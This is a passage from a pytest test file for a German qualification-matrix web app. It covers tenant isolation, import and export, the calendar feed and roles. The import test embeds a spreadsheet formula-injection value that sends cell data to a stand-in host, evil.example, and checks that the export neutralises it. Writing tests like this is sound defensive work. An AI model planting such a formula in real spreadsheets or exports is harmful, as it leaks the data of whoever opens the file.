"""The Kümmerer's workspace through the test client (CSRF on), once per database back end: tenant
isolation on every route of the workspace, the network and the company's data (enumerated from
the app's URL map, so a new route cannot be forgotten), the matrix flow from a due first-aid
holding to a generated need and its closing, filters, the spreadsheet import with preview, the
iCal feed, knowledge risks, Kümmerer roles, the network directory, the company's data export and
deletion, and garbage on every POST route (4xx or a redirect with a flash, never a 500).

Dates are built relative to date.today(), so the tests do not age."""
from __future__ import annotations

import base64
import csv
import html
import io
import itertools
import re
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select

from test_accounts import csrf, login, register
from wbportal.db import tables
from wbportal.qualifications.catalogue import load_catalogue
from wbportal.qualifications.rules import add_months, renewal_reason, valid_until
from wbportal.qualifications.store import MatrixStore
from wbportal.qualifications.workspace import company_place

FIXTURES = Path(__file__).parent / "fixtures" / "workspace"
PREFIXES = ("/qualifikationen", "/mitarbeitende", "/firma", "/netzwerk", "/konto/daten", "/konto/loeschen",
            "/kalender", "/gemeinsame-kurse")
PASSWORD = "sicheres-passwort"


# -- helpers ----------------------------------------------------------------------------------------
class Firm:
    """A logged-in user on a test client of their own (so several users can act side by side)."""

    def __init__(self, app, email: str, password: str = PASSWORD):
        self.app, self.email, self.password = app, email, password
        self.client = app.test_client()

    @classmethod
    def register(cls, app, email: str, company: str) -> "Firm":
        firm = cls(app, email)
        response = register(firm.client, email, company)
        assert response.status_code == 302, response.get_data(as_text=True)
        return firm._session()

    @classmethod
    def login(cls, app, email: str, password: str = PASSWORD) -> "Firm":
        firm = cls(app, email, password)
        response = login(firm.client, email, password)
        assert response.status_code == 302, response.get_data(as_text=True)
        return firm._session()

    def _session(self) -> "Firm":
        self.user = self.app.extensions["accounts"].user_by_email(self.email)
        self.company_id = self.user.company_id
        self.token = csrf(self.client, "/bedarfe")
        return self

    def get(self, url: str):
        return self.client.get(url)

    def post(self, url: str, data: dict | None = None, **kwargs):
        return self.client.post(url, data={"csrf_token": self.token, **(data or {})}, **kwargs)

    def text(self, url: str) -> str:
        response = self.get(url)
        assert response.status_code == 200, (url, response.status_code)
        return response.get_data(as_text=True)

    def add_person(self, name: str, job: str = "", leaving_year: str | int = "") -> int:
        response = self.post("/mitarbeitende/neu", {"name": name, "job": job, "leaving_year": str(leaving_year)})
        assert response.status_code == 302, response.get_data(as_text=True)
        ids = [p.id for p in store(self.app).people(self.company_id, archived=True) if p.name == name]
        assert ids, f"{name} not saved"
        return max(ids)

    def hold(self, person_id: int, qualification: str, acquired: date | None = None,
             until: date | None = None) -> None:
        response = self.post(f"/mitarbeitende/{person_id}/qualifikation", {
            "qualification": qualification, "acquired": acquired.isoformat() if acquired else "",
            "valid_until": until.isoformat() if until else ""})
        assert response.status_code == 302, response.get_data(as_text=True)

    def needs(self):
        return self.app.extensions["needs"].of_company(self.company_id)


def store(app) -> MatrixStore:
    return MatrixStore(app.extensions["db"])


def office(app) -> Firm:
    app.extensions["accounts"].add_admin("buero@verbund.example", "buero-passwort-1")
    return Firm.login(app, "buero@verbund.example", "buero-passwort-1")


def colleague(app, firm: Firm, email: str) -> Firm:
    """A second user of the firm (not a Kümmerer), logged in."""
    app.extensions["accounts"].add_user(firm.company_id, email, "kollegen-passwort")
    return Firm.login(app, email, "kollegen-passwort")


def matrix_people(page: str) -> list[str]:
    """The names in the wide matrix table, in order."""
    return [html.unescape(n).strip() for n in re.findall(r'<tr><th scope="row">([^<]+)', page)]


def cells(page: str) -> list[tuple[str, str]]:
    """(state, text) of the wide matrix table's cells."""
    return [(s, html.unescape(t)) for s, t in re.findall(r'<td class="cell cell-(\w+)">([^<]*)</td>', page)]


def flashes(page: str) -> str:
    found = re.search(r'<div class="flash" role="status">(.*?)</div>', page, re.S)
    return html.unescape(re.sub(r"<[^>]+>", " ", found[1])).strip() if found else ""


def follow(firm: Firm, response) -> str:
    """The page a redirect leads to (where its flash is shown)."""
    assert response.status_code == 302, response.status_code
    location = urlsplit(response.headers["Location"])
    return firm.get(location.path + (f"?{location.query}" if location.query else "")).get_data(as_text=True)


def feed_path(firm: Firm) -> str:
    page = firm.text("/qualifikationen/kalender")
    return urlsplit(html.unescape(re.search(r'id="feed"[^>]*value="([^"]+)"', page)[1])).path


def due_acquired(days: int) -> tuple[date, date]:
    """An 'ersthelfer' acquired date whose computed valid-until lies `days` (±3) ahead, and that date."""
    q = load_catalogue()["ersthelfer"]
    acquired = add_months(date.today() + timedelta(days=days), -q.validity_months)
    return acquired, valid_until(q, acquired)


def scoped_routes(app) -> set[tuple[str, str]]:
    """(endpoint, method) of every rule under the workspace's prefixes."""
    return {(rule.endpoint, method) for rule in app.url_map.iter_rules() if rule.rule.startswith(PREFIXES)
            for method in rule.methods - {"HEAD", "OPTIONS"}}


class FakeMailer:
    def __init__(self):
        self.sent: list[tuple[str, str, str]] = []

    def send(self, to: str, subject: str, body: str) -> None:
        self.sent.append((to, subject, body))


# -- 1. tenant isolation on every route ---------------------------------------------------------------
@dataclass
class Route:
    endpoint: str
    method: str
    path: str                 # {person}, {own}, {user}, {token}: company A's objects
    data: dict = field(default_factory=dict)
    kind: str = "edit"        # read: colleagues may read; edit: Kümmerer only, no object of A in it;
    #                           object: Kümmerer only, names an object of A; network: Kümmerer or office;
    #                           company: any company user; need: any user of the need's company;
    #                           feed: the secret calendar URL
    other: int | None = None  # B's status where it is not "< 400"

    def url(self, ids: dict) -> str:
        return self.path.format(**ids)

    def form(self, ids: dict) -> dict:
        return {k: v.format(**ids) if isinstance(v, str) else v for k, v in self.data.items()}


IMPORT_PAYLOAD = base64.b64encode("Name;Qualifikation\r\nBerta Bnutzer;Ersthelfer\r\n".encode()).decode()
ROUTES = [
    Route("workspace.matrix", "GET", "/qualifikationen", kind="read"),
    Route("workspace.staff", "GET", "/mitarbeitende", kind="read"),
    Route("workspace.export_csv", "GET", "/qualifikationen/export.csv", kind="read"),
    Route("workspace.risks", "GET", "/qualifikationen/risiken", kind="read"),
    Route("workspace.person_add", "POST", "/mitarbeitende/neu", {"name": "Berta Bnutzer"}),
    Route("workspace.person_edit", "GET", "/mitarbeitende/{person}", kind="object"),
    Route("workspace.person_edit", "POST", "/mitarbeitende/{person}", {"name": "Übernommen"}, kind="object"),
    Route("workspace.person_archive", "POST", "/mitarbeitende/{person}/archivieren", kind="object"),
    Route("workspace.person_delete", "POST", "/mitarbeitende/{person}/loeschen", kind="object"),
    Route("workspace.holding_set", "POST", "/mitarbeitende/{person}/qualifikation",
          {"qualification": "ersthelfer", "acquired": "2025-01-01"}, kind="object"),
    Route("workspace.holding_remove", "POST", "/mitarbeitende/{person}/qualifikation/entfernen",
          {"qualification": "ersthelfer"}, kind="object"),
    Route("workspace.requirement_set", "POST", "/qualifikationen/anforderung",
          {"job": "Lager", "qualification": "{own}"}, kind="object"),
    Route("workspace.own_add", "POST", "/qualifikationen/eigene", {"label": "Eigenes von B", "validity_months": "12"}),
    Route("workspace.own_delete", "POST", "/qualifikationen/eigene/{own}/loeschen", kind="object"),
    Route("workspace.import_sheet", "GET", "/qualifikationen/import"),
    Route("workspace.import_sheet", "POST", "/qualifikationen/import", {"payload": IMPORT_PAYLOAD}),
    Route("workspace.calendar_settings", "GET", "/qualifikationen/kalender"),
    Route("workspace.calendar_settings", "POST", "/qualifikationen/kalender"),
    Route("workspace.calendar_feed", "GET", "/kalender/{token}.ics", kind="feed"),
    Route("workspace.risk_need", "POST", "/qualifikationen/risiken/{own}/bedarf", kind="object"),
    Route("network.team", "GET", "/firma/kuemmerer"),
    Route("network.set_role", "POST", "/firma/kuemmerer/{user}", {"kuemmerer": "1"}, kind="object"),
    Route("network.matrix_visibility", "POST", "/firma/matrix-sichtbarkeit", {"alle": "1"}),
    Route("network.directory", "GET", "/netzwerk", kind="network"),
    Route("network.profile", "GET", "/netzwerk/profil"),
    Route("network.profile", "POST", "/netzwerk/profil",
          {"visible": "1", "display_name": "Bodo B.", "contact": "bodo@b.example"}),
    Route("network.export_data", "GET", "/konto/daten.json"),
    Route("network.delete_account", "GET", "/konto/loeschen"),
    Route("network.delete_account", "POST", "/konto/loeschen", {"password": "falsches-passwort"}, other=400),
    Route("accounts.invite", "GET", "/firma/einladen", kind="company"),
    Route("accounts.invite", "POST", "/firma/einladen", {"email": "neu-{n}@b.example"}, kind="company"),
    Route("network.joint_courses", "GET", "/gemeinsame-kurse", kind="company"),
    Route("network.join", "POST", "/gemeinsame-kurse/{need}", {"dabei": "1", "personen": "2"}, kind="need"),
]

A_STAFF = ("Annegret", "Zwingenberger", "Bartholomäus", "Quendelbach")
A_OTHER = ("Quarzsäge Typ Q7", "kollegin@zwingen.example")  # A's own qualification, a colleague's address


@pytest.fixture
def firm_a(app):
    """Company A: a Kümmerer with two people, a due first-aid holding (so a generated need), an
    own qualification, a requirement, a calendar token and a colleague who is no Kümmerer."""
    app.extensions["mailer"] = FakeMailer()
    a = Firm.register(app, "chefin@zwingen.example", "Zwingen Metall")
    annegret = a.add_person("Annegret Zwingenberger", "Lager", date.today().year + 1)
    bart = a.add_person("Bartholomäus Quendelbach", "Büro")
    a.hold(annegret, "ersthelfer", due_acquired(40)[0])
    a.hold(annegret, "staplerfahrer", date(2019, 3, 12))
    a.hold(bart, "brandschutzhelfer", date.today() - timedelta(days=100))
    assert a.post("/qualifikationen/eigene", {"label": "Quarzsäge Typ Q7", "validity_months": "12"}).status_code == 302
    own = next(iter(store(app).own_qualifications(a.company_id)))
    a.hold(bart, own, date.today() - timedelta(days=10))
    assert a.post("/qualifikationen/anforderung", {"job": "Lager", "qualification": "brandschutzhelfer"}).status_code == 302
    a.kollegin = colleague(app, a, "kollegin@zwingen.example")
    [need] = [n.id for n in a.needs() if n.origin == "renewal:ersthelfer"]
    a.ids = {"person": annegret, "own": own, "user": a.kollegin.user.id, "need": need,
             "token": feed_path(a).rsplit("/", 1)[1][:-len(".ics")]}
    return a


def _snapshot(app, firm: Firm) -> dict:
    s = store(app)
    accounts = app.extensions["accounts"]
    return {"people": [(p.id, p.name, p.job, p.leaving_year, p.archived) for p in s.people(firm.company_id, archived=True)],
            "holdings": [(h.staff_id, h.qualification, h.acquired, h.valid_until) for h in s.holdings(firm.company_id)],
            "own": sorted(s.own_qualifications(firm.company_id)), "requirements": s.requirements(firm.company_id),
            "users": [(u.id, u.email, u.kuemmerer) for u in accounts.users_of(firm.company_id)],
            "company": accounts.company(firm.company_id),
            "needs": sorted((n.id, n.origin, n.reason) for n in firm.needs())}


def _expected(route: Route, actor: str) -> int | str | None:
    """403/404/200: that status; "ok": below 400; None: not checked here (see the feed test)."""
    if route.kind == "feed":
        return None
    if route.kind == "need":
        return 404 if actor in ("b", "office") else "ok"
    if actor == "b":
        return 404 if route.kind == "object" else (route.other or "ok")
    if route.kind == "company":
        return "ok"
    if actor == "office":
        return "ok" if route.kind == "network" else 403
    if actor == "reader" and route.kind == "read":
        return 200
    return 403  # a colleague without the Kümmerer role


_serial = itertools.count()


def _check(firm: Firm, route: Route, ids: dict, expected, secrets: tuple[str, ...], problems: list) -> str:
    if expected is None:
        return ""
    ids = {**ids, "n": next(_serial)}
    url = route.url(ids)
    response = firm.get(url) if route.method == "GET" else firm.post(url, route.form(ids))
    body = response.get_data(as_text=True)
    ok = response.status_code < 400 if expected == "ok" else response.status_code == expected
    if not ok:
        problems.append(f"{route.method} {url}: {response.status_code}, expected {expected}")
    if response.status_code == 302:
        body += follow(firm, response)
    leaked = [s for s in secrets if s in body]
    if leaked:
        problems.append(f"{route.method} {url}: shows {leaked}")
    return body


def test_the_route_table_covers_every_workspace_route(app):
    """A new route under the workspace's prefixes must get its isolation expectations here."""
    table = {(r.endpoint, r.method) for r in ROUTES}
    assert scoped_routes(app) == table


def test_another_companys_kuemmerer_never_reaches_company_a(app, firm_a):
    before = _snapshot(app, firm_a)
    b = Firm.register(app, "bodo@bnutzer.example", "Bnutzer Bau")
    problems: list[str] = []
    for route in ROUTES:
        _check(b, route, firm_a.ids, _expected(route, "b"), A_STAFF + A_OTHER + ("Zwingen Metall", firm_a.ids["token"]),
               problems)
    # B's own people cannot be given A's own qualification, nor can B's jobs require it
    mine = b.add_person("Berta Zwei")
    for url, data in ((f"/mitarbeitende/{mine}/qualifikation", {"qualification": firm_a.ids["own"]}),
                      ("/qualifikationen/anforderung", {"job": "Bau", "qualification": firm_a.ids["own"]})):
        if (status := b.post(url, data).status_code) != 404:
            problems.append(f"POST {url} with A's own qualification: {status}")
    # the feed: only A's secret URL shows A's dates; B's own URL and made-up ones do not
    a_feed = b.get(f"/kalender/{firm_a.ids['token']}.ics").get_data(as_text=True)
    assert "Annegret Z." in a_feed  # whoever has the URL sees it: that is what the renewable secret is for
    b_feed = b.get(feed_path(b)).get_data(as_text=True)
    assert "BEGIN:VCALENDAR" in b_feed and not any(s in b_feed for s in A_STAFF)
    for token in ("x" * 43, firm_a.ids["token"][:-1], firm_a.ids["token"].upper(), "x" * 65):
        assert b.get(f"/kalender/{token}.ics").status_code == 404, token
    assert not problems, "\n".join(problems)
    assert _snapshot(app, firm_a) == before  # nothing of A changed


def test_the_office_never_sees_staff_data(app, firm_a):
    buero = office(app)
    problems: list[str] = []
    for route in ROUTES:
        _check(buero, route, firm_a.ids, _expected(route, "office"), A_STAFF, problems)
    for path in ("/koordinierung/", "/koordinierung/bedarf.csv", "/bedarfe"):
        if leaked := [s for s in A_STAFF if s in buero.text(path)]:
            problems.append(f"GET {path}: shows {leaked}")
    demand = buero.text("/koordinierung/bedarf")
    assert not [s for s in A_STAFF if s in demand], demand
    assert "1 aktive Bedarfe" in demand  # the generated need counts, without names
    assert "Zwingen Metall;Ersthelfer" in buero.text("/koordinierung/bedarf.csv")
    assert not problems, "\n".join(problems)


def test_a_colleague_reads_the_matrix_only_when_the_company_allows_it(app, firm_a):
    before = _snapshot(app, firm_a)
    kollegin = firm_a.kollegin
    problems: list[str] = []
    for route in ROUTES:
        _check(kollegin, route, firm_a.ids, _expected(route, "colleague"), A_STAFF, problems)
    assert not problems, "\n".join(problems)
    assert firm_a.post("/firma/matrix-sichtbarkeit", {"alle": "1"}).status_code == 302
    for route in ROUTES:
        body = _check(kollegin, route, firm_a.ids, _expected(route, "reader"), (), problems)
        if route.kind == "read" and route.endpoint != "workspace.risks" and "Zwingenberger" not in body:
            problems.append(f"{route.method} {route.path}: the reading colleague does not see the staff")
    assert not problems, "\n".join(problems)
    page = kollegin.text("/mitarbeitende")
    assert "Person hinzufügen" not in page and "Löschen" not in page  # read only: no edit forms
    assert firm_a.post("/firma/matrix-sichtbarkeit", {"alle": "0"}).status_code == 302
    assert kollegin.get("/qualifikationen").status_code == 403
    after = _snapshot(app, firm_a)
    same = lambda snap: {k: v for k, v in snap.items() if k not in ("company", "users")}  # noqa: E731
    assert same(after) == same(before)
    assert set(before["users"]) <= set(after["users"])  # colleagues may invite colleagues; no role changed


def test_anonymous_visitors_are_sent_to_the_login(app, firm_a):
    visitor = app.test_client()
    token = csrf(visitor, "/konto/anmelden")
    ids = {**firm_a.ids, "n": 0}
    for route in ROUTES:
        url = route.url(ids)
        response = visitor.get(url) if route.method == "GET" else visitor.post(url, data={"csrf_token": token,
                                                                                        **route.form(ids)})
        if route.kind == "feed":
            assert response.status_code == 200  # the secret URL is the credential
        else:
            assert response.status_code == 302 and "/konto/anmelden" in response.headers["Location"], url


# -- 2. the matrix flow ----------------------------------------------------------------------------
def test_due_first_aid_becomes_a_need_and_renewing_closes_it(app):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    erika = a.add_person("Erika Mustermann", "Büro")
    acquired, until = due_acquired(40)
    days = (until - date.today()).days
    assert 0 < days <= 90
    a.hold(erika, "ersthelfer", acquired)
    page = a.text("/qualifikationen")
    assert ("due", f"fällig in {days} Tagen") in cells(page)
    q = load_catalogue()["ersthelfer"]
    reason = renewal_reason(q, 1, until, date.today())
    assert reason == f"Ersthelfer (Aus- oder Fortbildung): 1 Person fällig bis {until:%d.%m.%Y}"
    assert f"<li>{reason}</li>" in page  # the matrix's "Fällige Auffrischungen"
    [need] = a.needs()
    assert (need.origin, need.reason, need.employees, need.topic) == ("renewal:ersthelfer", reason, 1, "Ersthelfer")
    assert need.latest == until and need.place == company_place("09456") == "Annaberg-Buchholz"
    needs_page = a.text("/bedarfe")
    assert f'<a href="/bedarfe/{need.id}">Ersthelfer</a>' in needs_page and reason in needs_page
    assert reason in a.text(f"/bedarfe/{need.id}")
    # renewed today: valid for 24 more months, the generated need is closed (deleted)
    a.hold(erika, "ersthelfer", date.today())
    renewed = valid_until(q, date.today())
    assert ("valid", f"gültig bis {renewed:%m/%Y}") in cells(a.text("/qualifikationen"))
    assert a.needs() == []
    assert a.get(f"/bedarfe/{need.id}").status_code == 404
    assert "Ersthelfer" not in a.text("/bedarfe")
    assert "Fällige Auffrischungen" not in a.text("/qualifikationen")


def test_a_job_that_requires_a_qualification_shows_it_missing(app):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    a.add_person("Lars Lagerist", "Lager")
    a.add_person("Olga Office", "Büro")
    response = a.post("/qualifikationen/anforderung", {"job": "Lager", "qualification": "staplerfahrer"})
    assert "„Lager“ braucht Staplerfahrer-Ausbildung (Fahrausweis)." in follow(a, response)
    page = a.text("/qualifikationen")
    assert "<th scope=\"col\">Staplerfahrer-Ausbildung (Fahrausweis)</th>" in page
    assert matrix_people(page) == ["Lars Lagerist", "Olga Office"]
    assert cells(page) == [("missing", "fehlt"), ("empty", "")]
    assert a.post("/qualifikationen/anforderung", {"job": "Lager", "qualification": "staplerfahrer",
                                                   "required": "0"}).status_code == 302
    assert "fehlt" not in a.text("/qualifikationen")


def test_matrix_filters_keep_the_right_people(app):
    today = date.today()
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    people = {}
    for name, until in (("In20 Tagen", today + timedelta(days=20)), ("In60 Tagen", today + timedelta(days=60)),
                        ("In150 Tagen", today + timedelta(days=150)), ("Vor10 Tagen", today - timedelta(days=10)),
                        ("In400 Tagen", today + timedelta(days=400)), ("Heute Fällig", today)):
        people[name] = a.add_person(name)
        a.hold(people[name], "ersthelfer", None, until)
    stapler = a.add_person("Stapel Fahrer", "Lager")
    a.hold(stapler, "staplerfahrer", date(2019, 3, 12))
    everyone = sorted([*people, "Stapel Fahrer"])
    assert sorted(matrix_people(a.text("/qualifikationen"))) == everyone
    due_30 = ["Heute Fällig", "In20 Tagen", "Vor10 Tagen"]
    assert sorted(matrix_people(a.text("/qualifikationen?faellig=30"))) == due_30
    assert sorted(matrix_people(a.text("/qualifikationen?faellig=90"))) == sorted([*due_30, "In60 Tagen"])
    assert sorted(matrix_people(a.text("/qualifikationen?faellig=180"))) == sorted([*due_30, "In60 Tagen", "In150 Tagen"])
    expired = a.text("/qualifikationen?abgelaufen=1")
    assert matrix_people(expired) == ["Vor10 Tagen"]
    assert cells(expired) == [("expired", f"abgelaufen seit {today - timedelta(days=10):%d.%m.%Y}")]
    assert ("due", "fällig heute") in cells(a.text("/qualifikationen?faellig=30"))
    # one qualification: only its column; combined with a due filter only its due people
    only_stapler = a.text("/qualifikationen?qualifikation=staplerfahrer")
    assert re.findall(r'<th scope="col">([^<]+)</th>', only_stapler) == ["Person", "Staplerfahrer-Ausbildung (Fahrausweis)"]
    assert ("valid", "vorhanden") in cells(only_stapler)
    assert sorted(matrix_people(a.text("/qualifikationen?faellig=30&qualifikation=ersthelfer"))) == due_30
    assert matrix_people(a.text("/qualifikationen?faellig=30&qualifikation=staplerfahrer")) == []
    # nonsense filters are ignored, never an error
    for query in ("faellig=45", "faellig=-1", "faellig=abc", "abgelaufen=ja", "qualifikation=gibt-es-nicht",
                  "qualifikation=%3Cscript%3E"):
        assert sorted(matrix_people(a.text(f"/qualifikationen?{query}"))) == everyone, query


# -- 3. spreadsheet import ----------------------------------------------------------------------------
def test_import_previews_broken_rows_saves_only_good_ones_and_exports_safely(app):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    data = (FIXTURES / "import_mixed.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b";" in data and b"\r\n" in data
    preview = a.post("/qualifikationen/import", {"datei": (io.BytesIO(data), "matrix.csv")},
                     content_type="multipart/form-data")
    assert preview.status_code == 200
    page = preview.get_data(as_text=True)
    assert "Vorschau: noch nichts gespeichert" in page
    errors = page.split("Zeilen, die nicht übernommen werden", 1)[1].split("</table>", 1)[0]
    rows = [tuple(html.unescape(re.sub(r"<[^>]+>", "", c)) for c in re.findall(r"<td>(.*?)</td>", r))
            for r in re.findall(r"<tr><td>.*?</tr>", errors)]
    assert [(r[0], r[1]) for r in rows] == [
        ("5", "Zeile 5: Datum „31.02.2025“ gibt es nicht (erwartet TT.MM.JJJJ)"),
        ("6", "Zeile 6: Qualifikation „Kettensägenschein Stufe 2“ ist unbekannt")]
    assert "4 Einträge für 3 Personen lesbar, 2 Zeilen nicht" in page
    assert store(app).people(a.company_id, archived=True) == []  # nothing saved yet
    assert "Jürgen" not in a.text("/mitarbeitende") and a.needs() == []
    payload = re.search(r'name="payload" value="([^"]+)"', page)[1]
    saved = a.post("/qualifikationen/import", {"payload": payload, "speichern": "1"})
    assert saved.status_code == 302 and saved.headers["Location"].endswith("/qualifikationen")
    assert "4 Einträge aus der Tabelle sind gespeichert" in follow(a, saved)
    formula = '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'
    people = {p.id: p for p in store(app).people(a.company_id)}
    assert sorted((p.name, p.job) for p in people.values()) == sorted([
        ("Jürgen Weißbach", "Lager"), ("Sabine Ölschläger", "Büro"), (formula, "Büro")])
    held = sorted((people[h.staff_id].name, h.qualification, h.acquired, h.valid_until)
                  for h in store(app).holdings(a.company_id))
    assert held == sorted([
        ("Jürgen Weißbach", "staplerfahrer", date(2019, 3, 12), None),
        ("Jürgen Weißbach", "ersthelfer", date(2025, 5, 5), date(2027, 5, 5)),
        ("Sabine Ölschläger", "brandschutzhelfer", date(2024, 9, 1), date(2027, 9, 1)),
        (formula, "datenschutz", date(2025, 1, 10), date(2027, 1, 10))])
    # the export: German Excel dialect, the formula is text
    export = a.get("/qualifikationen/export.csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    text = export.get_data().decode("utf-8")
    assert text.startswith("\ufeffName;Tätigkeit;Qualifikation;erworben am;gültig bis")
    table = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    names = [r[0] for r in table[1:]]
    assert "'" + formula in names and formula not in names
    assert not [c for r in table for c in r if c[:1] in ("=", "+", "-", "@")]
    assert ["Sabine Ölschläger", "Büro", "Brandschutzhelfer", "01.09.2024", "01.09.2027"] in table
    # re-importing the export changes nothing (same people, same holdings)
    again = a.post("/qualifikationen/import", {"datei": (io.BytesIO(export.get_data()), "export.csv")},
                   content_type="multipart/form-data").get_data(as_text=True)
    assert "4 Einträge für 3 Personen lesbar, 0 Zeilen nicht" in again
    assert "Zeilen, die nicht übernommen werden" not in again
    assert a.post("/qualifikationen/import", {"payload": re.search(r'name="payload" value="([^"]+)"', again)[1],
                                              "speichern": "1"}).status_code == 302
    assert len(store(app).people(a.company_id)) == 3
    assert sorted((people[h.staff_id].name, h.qualification, h.acquired, h.valid_until)
                  for h in store(app).holdings(a.company_id)) == held


def test_import_reads_an_iso_8859_1_file_with_umlauts(app):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    data = (FIXTURES / "import_latin1.csv").read_bytes()
    assert "Größler".encode("iso-8859-1") in data and b"\xc3" not in data  # really Latin-1, not UTF-8
    page = a.post("/qualifikationen/import", {"datei": (io.BytesIO(data), "alt.csv")},
                  content_type="multipart/form-data").get_data(as_text=True)
    assert "Gelesen als cp1252" in page and "Günther Größler" in page and "Bärbel Süß" in page
    payload = re.search(r'name="payload" value="([^"]+)"', page)[1]
    assert a.post("/qualifikationen/import", {"payload": payload, "speichern": "1"}).status_code == 302
    assert sorted((p.name, p.job) for p in store(app).people(a.company_id)) == [
        ("Bärbel Süß", "Küche"), ("Günther Größler", "Schweißer")]
    assert sorted(h.qualification for h in store(app).holdings(a.company_id)) == ["brandschutzhelfer", "ifsg_belehrung"]


def test_import_refuses_empty_oversized_and_non_csv_files(app):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    empty = a.post("/qualifikationen/import", {"datei": (io.BytesIO(b""), "leer.csv")}, content_type="multipart/form-data")
    assert empty.status_code == 400 and "Bitte wählen Sie eine CSV-Datei aus." in empty.get_data(as_text=True)
    big = a.post("/qualifikationen/import", {"datei": (io.BytesIO(b"Name;Qualifikation\r\n" + b"x" * 1_000_001), "g.csv")},
                 content_type="multipart/form-data")
    assert big.status_code == 400 and "größer als 1 MB" in big.get_data(as_text=True)
    xlsx = a.post("/qualifikationen/import", {"datei": (io.BytesIO(b"PK\x03\x04" + b"\x00" * 200), "m.xlsx")},
                  content_type="multipart/form-data")
    assert xlsx.status_code == 200 and "Excel-Arbeitsmappe, keine CSV-Datei" in xlsx.get_data(as_text=True)
    broken_payload = a.post("/qualifikationen/import", {"payload": "kein base64!", "speichern": "1"})
    assert broken_payload.status_code == 400
    assert store(app).people(a.company_id, archived=True) == []


# -- 4. calendar ------------------------------------------------------------------------------------
def test_calendar_feed_has_one_event_per_expiring_holding_and_renewing_kills_the_old_url(app):
    from icalendar import Calendar

    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    erika = a.add_person("Erika Mustermann", "Büro")
    acquired, first_aid_until = due_acquired(40)
    a.hold(erika, "ersthelfer", acquired)
    a.hold(erika, "brandschutzhelfer", date.today() - timedelta(days=100))
    a.hold(erika, "staplerfahrer", date(2019, 3, 12))          # does not expire: no event
    hans = a.add_person("Hans Ohnedatum")
    a.hold(hans, "datenschutz")                                 # no date known: no event
    gone = a.add_person("Paul Archiviert")
    a.hold(gone, "ersthelfer", acquired)
    assert a.post(f"/mitarbeitende/{gone}/archivieren").status_code == 302  # archived: no event
    page = a.text("/qualifikationen/kalender")
    assert "Kalender-Adresse (geheim halten)" in page
    old = feed_path(a)
    assert re.fullmatch(r"/kalender/[\w-]{40,64}\.ics", old)
    response = a.get(old)
    assert response.status_code == 200 and response.mimetype == "text/calendar"
    assert "no-store" in response.headers["Cache-Control"]
    calendar = Calendar.from_ical(response.get_data())
    events = sorted((str(e["summary"]), e.decoded("dtstart")) for e in calendar.walk("VEVENT"))
    brandschutz = valid_until(load_catalogue()["brandschutzhelfer"], date.today() - timedelta(days=100))
    assert events == sorted([("Ersthelfer (Aus- oder Fortbildung) fällig: Erika M.", first_aid_until),
                             ("Brandschutzhelfer fällig: Erika M.", brandschutz)])
    assert b"Mustermann" not in response.get_data()  # first name and initial only
    renewed = a.post("/qualifikationen/kalender")
    assert "Die alte Adresse funktioniert nicht mehr" in follow(a, renewed)
    new = feed_path(a)
    assert new != old
    assert a.get(old).status_code == 404
    assert app.test_client().get(new).status_code == 200


# -- 5. knowledge risks ------------------------------------------------------------------------------
def test_a_single_holder_leaving_next_year_is_a_risk_and_a_second_person_becomes_a_need(app):
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    leaving = date.today().year + 1
    hannes = a.add_person("Hannes Stapelmeister", "Lager", leaving)
    a.hold(hannes, "staplerfahrer", date(2019, 3, 12))
    both = [a.add_person("Ute Eins"), a.add_person("Uwe Zwei")]
    for person in both:  # two holders staying: no risk
        a.hold(person, "brandschutzhelfer", date.today() - timedelta(days=10))
    page = a.text("/qualifikationen/risiken")
    rows = re.findall(r"<tr><td>([^<]+)</td><td>([^<]+)</td>", page)
    assert rows == [("Staplerfahrer-Ausbildung (Fahrausweis)", f"nur Hannes Stapelmeister, geht {leaving}")]
    response = a.post("/qualifikationen/risiken/staplerfahrer/bedarf")
    assert response.status_code == 302
    need_id = int(re.fullmatch(r".*/bedarfe/(\d+)", response.headers["Location"])[1])
    assert "zweite Person qualifizieren" in follow(a, response)
    [need] = [n for n in a.needs() if n.id == need_id]
    assert need.origin == "risk:staplerfahrer" and need.employees == 1 and need.topic == "Staplerfahrer Ausbildung"
    assert a.post("/qualifikationen/risiken/staplerfahrer/bedarf").headers["Location"].endswith(f"/bedarfe/{need_id}")
    assert len(a.needs()) == 1  # asking again leads to the same need
    assert a.post("/qualifikationen/risiken/gibt-es-nicht/bedarf").status_code == 404


# -- 6. roles and the network ------------------------------------------------------------------------
def test_roles_first_user_is_kuemmerer_grant_to_invited_colleague_last_cannot_be_revoked(app):
    mailer = app.extensions["mailer"] = FakeMailer()
    a = Firm.register(app, "chef@arnold.example", "Metallbau Arnold")
    assert a.user.kuemmerer
    assert "<td>chef@arnold.example</td><td>Kümmerer</td>" in a.text("/firma/kuemmerer")
    assert a.post("/firma/einladen", {"email": "azubi@arnold.example"}).status_code == 302
    [(to, subject, body)] = mailer.sent
    assert to == "azubi@arnold.example" and "Einladung" in subject
    link = urlsplit(re.search(r"(https?://\S+/konto/passwort-neu/\S+)", body)[1]).path
    invited = Firm(app, "azubi@arnold.example", "azubi-passwort-1")
    token = csrf(invited.client, link)
    set_password = invited.client.post(link, data={"csrf_token": token, "password": "azubi-passwort-1",
                                                   "password2": "azubi-passwort-1"})
    assert set_password.status_code == 302
    invited._session()
    assert not invited.user.kuemmerer
    assert invited.get("/qualifikationen").status_code == 403
    assert invited.get("/firma/kuemmerer").status_code == 403
    assert invited.post(f"/firma/kuemmerer/{invited.user.id}", {"kuemmerer": "1"}).status_code == 403
    # a Kümmerer grants the role
    granted = a.post(f"/firma/kuemmerer/{invited.user.id}", {"kuemmerer": "1"})
    assert "Die Rolle ist vergeben." in follow(a, granted)
    assert invited.get("/qualifikationen").status_code == 200
    # and can give it up while another Kümmerer remains
